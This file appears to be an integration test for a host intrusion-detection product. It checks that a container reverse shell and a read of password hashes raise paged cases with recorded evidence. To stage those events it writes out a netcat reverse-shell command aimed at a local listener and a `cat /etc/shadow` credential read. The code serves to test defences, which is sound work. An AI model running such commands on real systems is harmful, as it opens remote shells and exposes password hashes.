/**
 * This machine, watched by the real sensor: a shell of 300 milliseconds in a container that somebody else commands becomes a case that
 * pages, what a signed-in person did is asked of that person, and the capture holds what was typed.
 */
import { execFile } from 'node:child_process';
import { createHash } from 'node:crypto';
import { existsSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { type AddressInfo, createServer, type Server } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { SYSCALL_FIELDS, Machine } from '@countersign/scap';
import type { CaseDetail, HostEvidence, NowView } from '@countersign/contract';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { readCaptureFile } from '../../../server/src/sources/captures/capture-file.ts';
import { type EnrolledPerson, type RunningApp, startRunningApp } from '../../running-app.ts';
import { Containers, describeWithContainers } from '../../runc.ts';

const run = promisify(execFile);
const PATIENCE_MS = 45_000;
const SHORT_ID = 12;
const MOST_TEXT = 1 << 28;
/** Somebody whom every machine has. */
const LOGIN = ['/bin/sh', '-c', 'echo 1 > /proc/self/loginuid; exec "$@"', 'sh'];

describeWithContainers('a machine that is watched', () => {
  const folder = mkdtempSync(join(tmpdir(), 'countersign-watched-'));
  const containers = new Containers();
  const id = createHash('sha256').update(folder).digest('hex');
  let running: RunningApp;
  let olga: EnrolledPerson;
  let intruder: Server;

  beforeAll(async () => {
    running = await startRunningApp(
      `
people:
  - { email: olga@example.com, name: Olga, role: responder }
  - { email: alice@example.com, name: Alice, identities: { host_users: [daemon] } }
accounts: { web-1: { label: prod, owner: olga@example.com } }
sources: [{ sensor: { host: web-1, runtimes: [], captures: { before: 20s, after: 2s } } }]
`,
      {},
    );
    olga = await running.enrol('olga@example.com');
    await running.enrol('alice@example.com');
    // Whoever connects is told to run commands; by their paths, since busybox runs its own without any program.
    intruder = createServer((socket) => {
      socket.on('error', () => undefined);
      socket.write('/bin/id\n/bin/cat /proc/version\n/bin/sleep 0.3\nexit\n');
      socket.resume();
    });
    await new Promise<void>((resolve) => intruder.listen(0, '127.0.0.1', resolve));
    await waitFor('the sensor', async () => {
      const { body } = await running.call(olga, 'GET', '/api/now');
      return (body as unknown as NowView).hosts.some(({ state }) => state === 'watching');
    });
  });

  afterAll(async () => {
    await running?.close();
    intruder?.close();
    containers.remove();
    rmSync(folder, { recursive: true, force: true });
  });

  async function casesOf(actor: string): Promise<readonly CaseDetail[]> {
    const found: CaseDetail[] = [];
    for (const one of await running.cases()) {
      const { body } = await running.call(olga, 'GET', `/api/cases/${one.id}`);
      const detail = body as unknown as CaseDetail;
      if (detail.findings.some((finding) => finding.actor.id === actor)) found.push(detail);
    }
    return found;
  }

  async function caseOf(actor: string, rule: string): Promise<CaseDetail> {
    let fitting: CaseDetail | undefined;
    await waitFor(`a case of ${actor}: ${rule}`, async () => {
      fitting = (await casesOf(actor)).find(({ findings }) => findings.some((one) => one.rule === rule));
      return fitting !== undefined;
    });
    if (fitting === undefined) throw new Error('there is none');
    return fitting;
  }

  test('a shell in a container that is commanded from elsewhere pages, and the capture has what was typed', {
    timeout: 150_000,
  }, async () => {
    const { port } = intruder.address() as AddressInfo;
    const script = `/bin/nc 127.0.0.1 ${port} -e /bin/sh`;
    await containers.run({ id, mark: 'reverse', script, onHostNetwork: true });
    const found = await caseOf(`container ${id.slice(0, SHORT_ID)}`, 'Shell on a network connection');
    expect(found.summary.state).toBe('paged');
    expect(found.findings.map(({ rule }) => rule)).toContain('Netcat runs a program');
    expect(found.findings[0]).toMatchObject({ source: 'syscall', account: { id: 'web-1', label: 'prod' } });

    const path = `/api/cases/${found.summary.id}/recordings`;
    let evidence: HostEvidence['captures'][number] | undefined;
    await waitFor('the capture', async () => {
      const { body } = await running.call(olga, 'GET', path);
      evidence = (body as unknown as HostEvidence).captures.find(({ state }) => state === 'kept');
      return evidence !== undefined;
    });
    const response = await fetch(`${running.app.url}/api/captures/${evidence?.id}`, {
      headers: { cookie: olga.cookie },
    });
    const file = join(folder, 'evidence.scap.gz');
    writeFileSync(file, Buffer.from(await response.arrayBuffer()));
    for (const line of await readByOthers(file)) expect(line).toContain(`nc 127.0.0.1 ${port} -e /bin/sh`);
    const commands = await commandsIn(file, id.slice(0, SHORT_ID));
    for (const command of [`nc 127.0.0.1 ${port} -e /bin/sh`, 'id', 'cat /proc/version', 'sleep 0.3']) {
      expect(commands).toContain(command);
    }
  });

  test('what somebody did who is signed in to the machine is asked of that person', { timeout: 150_000 }, async () => {
    await run(LOGIN[0] ?? '', [...LOGIN.slice(1), '/bin/cat', '/etc/shadow']);
    const found = await caseOf('daemon', 'Password hashes read');
    expect(found.summary).toMatchObject({ person: { name: 'Alice Example' } });
    expect(found.findings.every(({ actor }) => actor.kind === 'person')).toBe(true);
  });
});

/** What Debian's tshark and sysdig, where they are, find of it in the capture. */
async function readByOthers(file: string): Promise<readonly string[]> {
  const found: string[] = [];
  if (existsSync('/usr/bin/sysdig')) {
    const filter = 'evt.type=execve and evt.dir=< and proc.name=nc';
    const { stdout } = await run('sysdig', ['-r', file, '-p', '%proc.cmdline', filter], { maxBuffer: MOST_TEXT });
    found.push(stdout);
  }
  if (existsSync('/usr/bin/tshark')) {
    const { stdout } = await run('tshark', ['-r', file, '-c', '5']);
    expect(stdout).toContain('Sysdig Event');
  }
  return found;
}

/** Command lines that were started in the container. */
async function commandsIn(file: string, container: string): Promise<readonly string[]> {
  const text = (machine: Machine, name: string) => String(SYSCALL_FIELDS.get(name)?.read(machine, null) ?? '');
  const commands: string[] = [];
  const machine = new Machine({
    onEvent: (now) => {
      if (text(now, 'evt.type') !== 'execve' || text(now, 'container.id') !== container) return;
      commands.push(text(now, 'proc.cmdline'));
    },
  });
  const { damage } = await readCaptureFile(file, machine, () => Promise.resolve());
  expect(damage).toBeNull();
  return commands;
}

async function waitFor(what: string, fits: () => Promise<boolean>): Promise<void> {
  const deadline = Date.now() + PATIENCE_MS;
  while (!(await fits())) {
    if (Date.now() > deadline) throw new Error(`not in time: ${what}`);
    await new Promise((resolve) => setTimeout(resolve, 100));
  }
}
